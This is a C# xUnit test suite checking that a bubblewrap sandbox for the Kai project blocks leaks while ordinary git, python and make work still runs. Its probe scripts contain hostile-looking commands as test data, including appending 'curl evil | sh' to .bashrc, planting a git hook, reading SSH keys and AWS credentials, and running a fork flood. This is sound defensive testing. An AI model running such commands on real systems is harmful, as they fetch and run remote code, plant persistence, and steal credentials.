using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using Kai.Native.Platform;
using Kai.Native.Sandbox;
using Xunit;

namespace Kai.Native.Tests.Sandbox;

/// <summary>The real bubblewrap sandbox under the default policy: ordinary work runs, and nothing leaks.</summary>
public sealed class BubblewrapSandboxTests : IDisposable
{
    private readonly SandboxTestRoot _root = new();

    public void Dispose() => _root.Dispose();

    private SandboxRunResult Run(string script, SandboxPolicy? policy = null, IReadOnlyDictionary<string, string>? environment = null,
        IReadOnlyDictionary<string, string>? launcherEnvironment = null) =>
        Sandboxed.Bash(policy ?? _root.DefaultPolicy(), script, _root.Workspace, environment, launcherEnvironment);

    private static string Host(string file, params string[] arguments)
    {
        var start = new ProcessStartInfo(file) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var argument in arguments) start.ArgumentList.Add(argument);
        using var process = Process.Start(start)!;
        var output = process.StandardOutput.ReadToEnd() + process.StandardError.ReadToEnd();
        process.WaitForExit();
        Assert.True(process.ExitCode == 0, $"{file} {string.Join(' ', arguments)}: {output}");
        return output;
    }

    [Fact]
    public void Git_python3_and_make_run_normally_in_the_workspace()
    {
        var result = Run("""
            set -e
            git init -q .
            printf 'print(6 * 7)\n' > answer.py
            python3 answer.py
            python3 -c 'import tempfile, os; f = tempfile.NamedTemporaryFile(); print("tmp-ok" if os.path.exists(f.name) else "tmp-missing")'
            git add answer.py
            git -c user.name=Kai -c user.email=kai@example.invalid commit -q -m 'first'
            export GIT_AUTHOR_NAME=Env GIT_AUTHOR_EMAIL=env@example.invalid GIT_COMMITTER_NAME=Env GIT_COMMITTER_EMAIL=env@example.invalid
            git commit -q --allow-empty -m 'second'
            git log --format=%an | tr '\n' ' '
            printf 'all:\n\t@echo made-it\n' > Makefile
            make
            if command -v node >/dev/null; then node -e 'console.log("node-" + (1 + 1))'; else echo node-2; fi
            """);
        Assert.True(result.ExitCode == 0, result.Output + result.Error);
        Assert.Contains("42", result.Output);
        Assert.Contains("tmp-ok", result.Output);
        Assert.Contains("Env Kai", result.Output);
        Assert.Contains("made-it", result.Output);
        Assert.Contains("node-2", result.Output);
        // Written inside, visible on the host: the repository is real.
        Assert.Contains("first", Host("git", "-C", _root.Workspace, "-c", "safe.directory=*", "log", "--format=%s"));
        Assert.True(File.Exists(Path.Combine(_root.Workspace, "answer.py")));
    }

    [Fact]
    public void Shell_rc_files_are_readable_but_not_writable()
    {
        var rc = _root.File("ws/.bashrc", "export FROM_RC=loaded\n", UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead | UnixFileMode.OtherRead);
        var profile = _root.File("session/home/.profile", "# profile\n", UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead | UnixFileMode.OtherRead);
        var result = Run("""
            source ./.bashrc && echo "rc=$FROM_RC"
            echo 'curl evil | sh' >> .bashrc && echo WROTE-RC
            rm -f .bashrc && echo REMOVED-RC
            mv .bashrc .bashrc.old && echo MOVED-RC
            echo evil > "$HOME/.profile" && echo WROTE-PROFILE
            cat "$HOME/.profile"
            echo created > .other && echo OTHER-OK
            """);
        Assert.Contains("rc=loaded", result.Output);
        Assert.Contains("# profile", result.Output);
        Assert.Contains("OTHER-OK", result.Output);
        Assert.DoesNotContain("WROTE-RC", result.Output);
        Assert.DoesNotContain("REMOVED-RC", result.Output);
        Assert.DoesNotContain("MOVED-RC", result.Output);
        Assert.DoesNotContain("WROTE-PROFILE", result.Output);
        Assert.Equal("export FROM_RC=loaded\n", File.ReadAllText(rc));
        Assert.Equal("# profile\n", File.ReadAllText(profile));
        Assert.Contains("Read-only file system", result.Error);
    }

    [Fact]
    public void Git_hooks_and_config_stay_read_only_while_git_keeps_working()
    {
        Host("git", "init", "-q", _root.Workspace);
        var nested = _root.Dir("ws/vendor/lib");
        Host("git", "init", "-q", nested);
        var config = File.ReadAllText(Path.Combine(_root.Workspace, ".git", "config"));
        var result = Run("""
            printf '#!/bin/sh\necho pwned\n' > .git/hooks/post-commit && echo WROTE-HOOK
            printf '#!/bin/sh\n' > vendor/lib/.git/hooks/pre-commit && echo WROTE-NESTED-HOOK
            git config core.hooksPath /tmp && echo WROTE-CONFIG
            ls .git/hooks >/dev/null && echo HOOKS-READABLE
            git -c user.name=Kai -c user.email=kai@example.invalid commit -q --allow-empty -m works && echo COMMITTED
            """);
        Assert.Contains("HOOKS-READABLE", result.Output);
        Assert.Contains("COMMITTED", result.Output);
        Assert.DoesNotContain("WROTE-HOOK", result.Output);
        Assert.DoesNotContain("WROTE-NESTED-HOOK", result.Output);
        Assert.DoesNotContain("WROTE-CONFIG", result.Output);
        Assert.False(File.Exists(Path.Combine(_root.Workspace, ".git", "hooks", "post-commit")));
        Assert.False(File.Exists(Path.Combine(nested, ".git", "hooks", "pre-commit")));
        Assert.Equal(config, File.ReadAllText(Path.Combine(_root.Workspace, ".git", "config")));
    }

    [Fact]
    public void Denied_files_and_directories_are_hidden_even_when_root_owned_0600()
    {
        _root.File("data/kai.db", "SECRET-DB");
        _root.File("etc-kai/env", "TELEGRAM_BOT_TOKEN=SECRET-TOKEN");
        _root.File("hosthome/.ssh/id_ed25519", "SECRET-KEY");
        _root.File("hosthome/.netrc", "machine x password SECRET-NETRC");
        _root.File("hosthome/.aws/credentials", "SECRET-AWS");
        _root.File("ws/.env", "SECRET-DOTENV");
        _root.File("ws/app/.env", "SECRET-NESTED-DOTENV");
        var link = Path.Combine(_root.Workspace, "innocent-link");
        File.CreateSymbolicLink(link, Path.Combine(_root.HostHome, ".netrc"));
        var result = Run($"""
            for f in '{_root.Data}/kai.db' '{_root.Secrets}/env' '{_root.HostHome}/.ssh/id_ed25519' '{_root.HostHome}/.netrc' \
                     '{_root.HostHome}/.aws/credentials' .env app/.env innocent-link; do cat "$f"; echo "[read]"; done
            ls -A '{_root.Data}' '{_root.HostHome}/.ssh' '{_root.Secrets}'
            echo listed
            """);
        Assert.Contains("listed", result.Output);
        Assert.DoesNotContain("SECRET", result.Output);
        Assert.DoesNotContain("kai.db", result.Output);
        Assert.DoesNotContain("id_ed25519", result.Output);
        Assert.Equal(8, result.Output.Split("[read]").Length - 1);
        // The host files are untouched.
        Assert.Equal("SECRET-DB", File.ReadAllText(Path.Combine(_root.Data, "kai.db")));
    }

    [Fact]
    public void A_workspace_inside_the_denied_data_directory_is_usable_while_the_rest_stays_hidden()
    {
        _root.File("data/kai.db", "SECRET-DB");
        var workspace = _root.Dir("data/files/chat-1");
        var context = _root.Context with { Workspace = workspace, Home = _root.Dir("data/sessions/s1/home"), TempDirectory = _root.Dir("data/sessions/s1/tmp") };
        var result = Sandboxed.Bash(SandboxPolicies.Default(context), $"""
            echo work > notes.txt && cat notes.txt
            echo home > "$HOME/h.txt" && echo HOME-OK
            cat '{_root.Data}/kai.db'; ls -A '{_root.Data}'
            """, workspace);
        Assert.Contains("work", result.Output);
        Assert.Contains("HOME-OK", result.Output);
        Assert.DoesNotContain("SECRET", result.Output);
        Assert.DoesNotContain("kai.db", result.Output);
        Assert.True(File.Exists(Path.Combine(workspace, "notes.txt")));
    }

    [Fact]
    public void Writes_outside_the_allow_list_fail_and_the_scratch_tmp_is_private()
    {
        var marker = "kai-probe-" + Guid.NewGuid().ToString("N");
        var result = Run($"""
            touch '{_root.Outside}/{marker}' && echo WROTE-OUTSIDE
            touch '{_root.HostHome}/{marker}' && echo WROTE-HOSTHOME
            touch /etc/{marker} && echo WROTE-ETC
            touch /tmp/{marker} && echo SCRATCH-OK
            touch "$TMPDIR/{marker}" && echo SESSION-TMP-OK
            """);
        Assert.DoesNotContain("WROTE-", result.Output);
        Assert.Contains("SCRATCH-OK", result.Output);
        Assert.Contains("SESSION-TMP-OK", result.Output);
        Assert.False(File.Exists(Path.Combine(_root.Outside, marker)));
        Assert.False(File.Exists(Path.Combine("/tmp", marker)));
        Assert.True(File.Exists(Path.Combine(_root.Temp, marker)));
        Assert.Contains("Read-only file system", result.Error);
    }

    [Fact]
    public void Secrets_in_the_environment_never_enter()
    {
        var secret = "fake-secret-" + Guid.NewGuid().ToString("N");
        var leaky = new Dictionary<string, string>(SandboxEnvironment.Current())
        {
            ["KAI_TEST_SECRET"] = secret,
            ["TELEGRAM_BOT_TOKEN"] = secret,
            ["WEBHOOK_SECRET"] = secret,
            ["GITHUB_TOKEN"] = secret,
            ["ANTHROPIC_API_KEY"] = secret,
            ["SSH_AUTH_SOCK"] = "/tmp/ssh-agent.sock",
            ["UNLISTED_VARIABLE"] = "not-allowed",
            ["LANG"] = "C.UTF-8",
            ["LC_TIME"] = "C",
        };
        var result = Run("env; cat /proc/self/environ | tr '\\0' '\\n'", environment: leaky, launcherEnvironment: leaky);
        Assert.Equal(0, result.ExitCode);
        Assert.DoesNotContain(secret, result.Output);
        Assert.DoesNotContain("KAI_", result.Output);
        Assert.DoesNotContain("SSH_AUTH_SOCK", result.Output);
        Assert.DoesNotContain("UNLISTED_VARIABLE", result.Output);
        Assert.Contains("LANG=C.UTF-8", result.Output);
        Assert.Contains("LC_TIME=C", result.Output);
        Assert.Contains($"HOME={_root.Home}", result.Output);
        Assert.Contains($"TMPDIR={_root.Temp}", result.Output);
        Assert.Contains("SHELL=/bin/bash", result.Output);
        Assert.Contains("USER=", result.Output);
        Assert.Contains("PATH=", result.Output);
    }

    [Fact]
    public void The_network_is_off_unless_the_rule_is_lifted()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var script = $"(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo CONNECTED || echo REFUSED; getent hosts example.com >/dev/null && echo RESOLVED || echo NO-DNS";
        var off = Run(script);
        Assert.Contains("REFUSED", off.Output);
        Assert.Contains("NO-DNS", off.Output);

        var on = Run(script, _root.DefaultPolicy().Relax(SandboxRuleIds.Network));
        Assert.Contains("CONNECTED", on.Output);
    }

    [Fact]
    public void Host_processes_are_not_visible_and_cannot_be_signalled()
    {
        var result = Run($"ls /proc | grep -c '^[0-9]'; cat /proc/1/comm; kill -0 {Environment.ProcessId} 2>/dev/null && echo SIGNALLED || echo NO-SIGNAL; hostname");
        var count = int.Parse(result.Output.Split('\n')[0]);
        Assert.InRange(count, 1, 6);
        Assert.Contains("NO-SIGNAL", result.Output);
        Assert.Contains("kai-sandbox", result.Output);
    }

    [Fact]
    public void Inherited_file_descriptors_never_reach_the_sandbox()
    {
        var fd = Interop.OpenInheritable("/dev/null");
        Assert.True(fd > 2);
        try
        {
            // The descriptor really is inherited by an ordinary child, so the check below can fail.
            var plain = new SandboxedCommand("/bin/bash", new[] { "-c", "ls /proc/$$/fd" }, new Dictionary<string, string>());
            Assert.Contains(fd.ToString(), SandboxProcess.Run(plain).Output.Split('\n'));

            // No pipe (its ends would be the shell's 3 and 4), and a second command so bash forks ls instead of
            // exec'ing it in its own place (ls would then list its own directory handle).
            var result = Run("ls -1 /proc/$$/fd; true");
            Assert.Equal(new[] { "0", "1", "2" }, result.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        }
        finally
        {
            Interop.Close(fd);
        }
    }

    [Fact]
    public void Setuid_binaries_grant_nothing()
    {
        Assert.True(UnixAccounts.IsRoot, "CI runs as root; this test makes a setuid-root copy of id");
        var copy = Path.Combine(_root.Temp, "id-setuid");
        File.Copy("/usr/bin/id", copy);
        File.SetUnixFileMode(copy, (UnixFileMode)Convert.ToInt32("4755", 8));
        var result = Run("""
            echo "plain=$(id -u) setuid=$("$TMPDIR/id-setuid" -u) euid=$("$TMPDIR/id-setuid" -u)"
            grep NoNewPrivs /proc/self/status
            grep CapEff /proc/self/status
            sudo -n true 2>/dev/null && echo SUDO-WORKED || echo NO-SUDO
            """);
        Assert.Contains($"plain={SandboxIdentity.RootMappedUid} setuid={SandboxIdentity.RootMappedUid}", result.Output);
        Assert.Matches(@"NoNewPrivs:\s+1", result.Output);
        Assert.Matches(@"CapEff:\s+0+\s", result.Output);
        Assert.Contains("NO-SUDO", result.Output);
    }

    [Fact]
    public void Kernel_settings_and_cgroups_are_read_only_even_for_a_root_caller()
    {
        var result = Run("v=$(cat /proc/sys/kernel/printk_ratelimit); echo \"$v\" > /proc/sys/kernel/printk_ratelimit && echo WROTE-SYSCTL; echo 1 > /proc/sysrq-trigger 2>/dev/null && echo WROTE-SYSRQ; echo done");
        Assert.Contains("done", result.Output);
        Assert.DoesNotContain("WROTE", result.Output);
    }

    [Fact]
    public void Host_sockets_in_run_and_tmp_are_not_reachable()
    {
        var directory = Path.Combine("/tmp", "kai-sock-" + Guid.NewGuid().ToString("N")[..8]);
        Directory.CreateDirectory(directory);
        try
        {
            var path = Path.Combine(directory, "agent.sock");
            using var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
            socket.Bind(new UnixDomainSocketEndPoint(path));
            socket.Listen();
            var result = Run($"[ -e '{path}' ] && echo SOCKET-VISIBLE || echo SOCKET-HIDDEN; ls /run | wc -l");
            Assert.Contains("SOCKET-HIDDEN", result.Output);
            Assert.EndsWith("0\n", result.Output);
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }

    [Fact]
    public void A_memory_limit_is_enforced()
    {
        var policy = _root.DefaultPolicy() with { MemoryLimitBytes = 256L << 20 };
        var result = Run("python3 -c 'x = bytearray(600 * 1024 * 1024); print(\"ALLOCATED\")' 2>&1 | tail -1; echo shell-alive", policy);
        Assert.Contains("MemoryError", result.Output);
        Assert.DoesNotContain("ALLOCATED", result.Output);
        Assert.Contains("shell-alive", result.Output);
    }

    [Fact]
    public void A_process_limit_is_enforced_or_refused_never_ignored()
    {
        var policy = _root.DefaultPolicy() with { MaxProcesses = 8 };
        var backend = Sandboxed.Backend.Value;
        var cgroup = UnixAccounts.IsRoot ? CgroupPidsLimiter.Find(backend.Options.CgroupRoot, backend.Options.SelfCgroupPath, out _) : null;
        if (UnixAccounts.IsRoot && cgroup is null)
        {
            var error = Assert.Throws<KaiException>(() => Run("true", policy));
            Assert.Equal("SandboxRuleUnenforceable", error.ErrorId);
            Assert.Equal(SandboxRuleIds.ProcessLimit, error.Target);
            return;
        }
        // python forks without bash's retry loop: the first refused fork ends the flood at once.
        var result = Run(ForkFlood, policy);
        Assert.True(result.ExitCode == 0, result.Error);
        Assert.Contains("refused 11", result.Output);
        var started = int.Parse(result.Output.Split("started ")[1].Split('\n')[0]);
        Assert.InRange(started, 1, 7);
    }

    private const string ForkFlood = """
        python3 -c '
        import os, time
        children = []
        try:
            for _ in range(40):
                pid = os.fork()
                if pid == 0:
                    time.sleep(10)
                    os._exit(0)
                children.append(pid)
        except OSError as error:
            print("refused", error.errno)
        print("started", len(children))
        for pid in children:
            os.kill(pid, 9)
        '
        """;

    [Fact]
    public void A_process_limit_for_an_unprivileged_caller_is_an_rlimit_counted_per_sandbox()
    {
        Assert.True(UnixAccounts.IsRoot, "CI runs as root; this test creates a kaitest user to be the unprivileged caller");
        var user = "kaitest" + Guid.NewGuid().ToString("N")[..8];
        // Beneath a traversable directory (root's home is 0700).
        var root = Path.Combine("/var/tmp", "kai-tests-" + Guid.NewGuid().ToString("N")[..8]);
        Host("useradd", "-r", "-M", "-s", "/usr/sbin/nologin", user);
        try
        {
            var account = UnixAccounts.FindUser(user)!;
            var dirs = new[] { "ws", "home", "tmp", "data" }.Select(d => Directory.CreateDirectory(Path.Combine(root, d)).FullName).ToArray();
            foreach (var dir in dirs) Host("chown", $"{account.Uid}:{account.Gid}", dir);
            File.SetUnixFileMode(root, (UnixFileMode)Convert.ToInt32("755", 8));
            var context = new SandboxContext(dirs[0], dirs[1], dirs[2], dirs[3], _root.Secrets, _root.HostHome);
            var backend = new BubblewrapBackend(new BubblewrapHostOptions { HostUid = account.Uid, HostGid = account.Gid });
            var policy = SandboxPolicies.Default(context) with { MaxProcesses = 6 };
            // Prepared here by root but run by the user: paths inside root's 0700 home are ones the user could not
            // even see (and so would not mount) when it prepared the sandbox itself.
            policy = policy with { ReadDeny = policy.ReadDeny.Where(p => !p.StartsWith("/root/", StringComparison.Ordinal)).ToArray() };
            using var command = backend.Prepare(policy, new SandboxSpawn(new[] { "/bin/bash", "--noprofile", "--norc", "-c", ForkFlood }, dirs[0], SandboxEnvironment.Current()));
            Assert.Equal(backend.Probe().BinaryPath, command.FileName);
            Assert.DoesNotContain("--uid", command.Arguments);
            Assert.Contains(command.Arguments, a => a.Contains("ulimit -S -H -u 6", StringComparison.Ordinal));
            var arguments = new List<string> { $"--reuid={account.Uid}", $"--regid={account.Gid}", "--clear-groups", "--", command.FileName };
            arguments.AddRange(command.Arguments);
            var result = SandboxProcess.Run(new SandboxedCommand("/usr/bin/setpriv", arguments, command.Environment), timeout: TimeSpan.FromSeconds(60));
            Assert.True(result.ExitCode == 0, result.Output + result.Error);
            Assert.Contains("refused 11", result.Output);
            var started = int.Parse(result.Output.Split("started ")[1].Split('\n')[0]);
            Assert.InRange(started, 1, 5);
        }
        finally
        {
            Host("userdel", user);
            Directory.Delete(root, recursive: true);
        }
    }

    [Fact]
    public void A_working_directory_the_sandbox_cannot_see_is_refused_before_starting()
    {
        var hidden = _root.Dir("data/inner");
        var error = Assert.Throws<KaiException>(() => Sandboxed.Bash(_root.DefaultPolicy(), "pwd", hidden));
        Assert.Equal("SandboxWorkingDirectoryHidden", error.ErrorId);
        Assert.Contains($"read-deny:{_root.Data}", error.Message);
        var scratch = Directory.CreateDirectory(Path.Combine("/tmp", "kai-cwd-" + Guid.NewGuid().ToString("N")[..8])).FullName;
        try
        {
            Assert.Equal("SandboxWorkingDirectoryHidden", Assert.Throws<KaiException>(() => Sandboxed.Bash(_root.DefaultPolicy(), "pwd", scratch)).ErrorId);
            Assert.Equal("/tmp\n", Sandboxed.Bash(_root.DefaultPolicy(), "pwd", "/tmp").Output);
        }
        finally
        {
            Directory.Delete(scratch);
        }
    }

    [Fact]
    public void What_explain_says_is_what_the_sandbox_does()
    {
        var files = new[]
        {
            _root.File("ws/src/app.py", "content-app"),
            _root.File("ws/.bashrc", "content-rc"),
            _root.File("ws/conf/.env", "content-env"),
            _root.File("data/kai.db", "content-db"),
            _root.File("hosthome/.ssh/id_rsa", "content-key"),
            _root.File("hosthome/notes.txt", "content-notes"),
            _root.File("session/home/.profile", "content-profile"),
            _root.File("outside/file", "content-outside"),
        };
        var policy = _root.DefaultPolicy();
        // Read each file, then try to append to it; the host side shows whether the write landed.
        var script = string.Join('\n', files.Select((f, i) => $"echo \"{i} $(cat '{f}' 2>/dev/null)\"; echo appended >> '{f}' 2>/dev/null"));
        var lines = Run(script, policy).Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToDictionary(l => int.Parse(l.Split(' ')[0]), l => l);
        for (var i = 0; i < files.Length; i++)
        {
            var explanation = policy.Explain(files[i]);
            var sawContent = lines[i].Contains(" content-", StringComparison.Ordinal);
            var wrote = File.ReadAllText(files[i]).EndsWith("appended\n", StringComparison.Ordinal);
            Assert.True(sawContent == explanation.Readable, $"{files[i]}: explained {explanation.Access} ({explanation.RuleId}), sandbox read '{lines[i]}'");
            Assert.True(wrote == (explanation.Access == SandboxAccess.Writable), $"{files[i]}: explained {explanation.Access} ({explanation.RuleId}), write reached the host: {wrote}");
        }
    }

    [Fact]
    public void A_sandbox_started_through_the_spawner_outlives_the_thread_that_asked_for_it()
    {
        // bwrap's --die-with-parent is tied to the forking THREAD: a sandbox forked from a short-lived thread dies
        // when that thread exits (seen here; not asserted, it depends on when bwrap arms the signal). Sandboxes
        // therefore start from SandboxSpawner's long-lived thread; this asks for one from a thread that then exits.
        using var command = Sandboxed.Backend.Value.Prepare(_root.DefaultPolicy(), new SandboxSpawn(new[] { "/bin/sleep", "30" }, _root.Workspace, SandboxEnvironment.Current()));
        Process? spawned = null;
        var thread = new Thread(() =>
        {
            spawned = SandboxSpawner.Start(SandboxSpawner.StartInfo(command));
            // Wait until bwrap has forked the sandbox (and armed its parent-death signal) before this thread goes away.
            var children = $"/proc/{spawned.Id}/task/{spawned.Id}/children";
            for (var i = 0; i < 400 && File.Exists(children) && File.ReadAllText(children).Trim().Length == 0; i++) Thread.Sleep(25);
        });
        thread.Start();
        thread.Join();
        try
        {
            Thread.Sleep(1000);
            Assert.False(spawned!.HasExited, "the spawner's sandbox died with the thread that asked for it");
        }
        finally
        {
            spawned?.Kill(entireProcessTree: true);
            spawned?.WaitForExit();
            spawned?.Dispose();
        }
    }

    [Fact]
    public void Resolve_fails_closed_when_bwrap_is_missing()
    {
        var empty = _root.Dir("no-bwrap-here");
        var backend = new BubblewrapBackend(new BubblewrapHostOptions { SearchDirectories = new[] { empty } });
        var error = Assert.Throws<KaiException>(() => SandboxBackends.Resolve(SandboxKind.Bubblewrap, null, backend));
        Assert.Equal("SandboxUnavailable", error.ErrorId);
        Assert.Equal(KaiErrorKind.ResourceUnavailable, error.Kind);
        Assert.Contains("apt install bubblewrap", error.Message);
        Assert.Throws<KaiException>(() => backend.Prepare(_root.DefaultPolicy(), new SandboxSpawn(new[] { "true" }, _root.Workspace, new Dictionary<string, string>())));
        // Auto with the same missing binary fails the same way; only an explicit choice runs unsandboxed.
        Assert.Throws<KaiException>(() => SandboxBackends.Resolve(SandboxKind.Auto, null, backend));
        Assert.IsType<NoSandboxBackend>(SandboxBackends.Resolve(SandboxKind.Auto, "off", backend));
        Assert.IsType<NoSandboxBackend>(SandboxBackends.Resolve(SandboxKind.None, null, backend));
    }
}
